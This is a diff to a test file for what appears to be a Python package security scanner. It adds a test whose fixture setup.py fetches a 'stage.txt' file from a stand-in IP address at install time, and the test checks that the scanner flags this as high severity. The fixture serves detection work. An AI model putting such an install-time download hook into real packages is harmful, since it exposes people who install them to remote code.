@@ -417,3 +417,9 @@ def test_a_second_stage_is_an_exec_capability_for_release_diffs(tmp_path: Path) 
     caps = capabilities(open_archive(make_wheel(tmp_path, "pkg", "1.0", {"pkg/__init__.py": module})))
     dropped = [c for c in caps if c.kind is Kind.EXEC and c.detail.startswith("runs a file it wrote")]
     assert [c.strong for c in dropped] == [True]
+
+
+def test_a_setup_script_with_a_shebang_still_runs_at_install(tmp_path: Path) -> None:
+    setup = "#!/usr/bin/env python\nimport requests\nrequests.get('http://198.51.100.7:1122/stage.txt')\n"
+    found = scan(tmp_path, {"p-1.0/setup.py": setup})
+    assert worst(found, "code-network-at-import") is Severity.HIGH
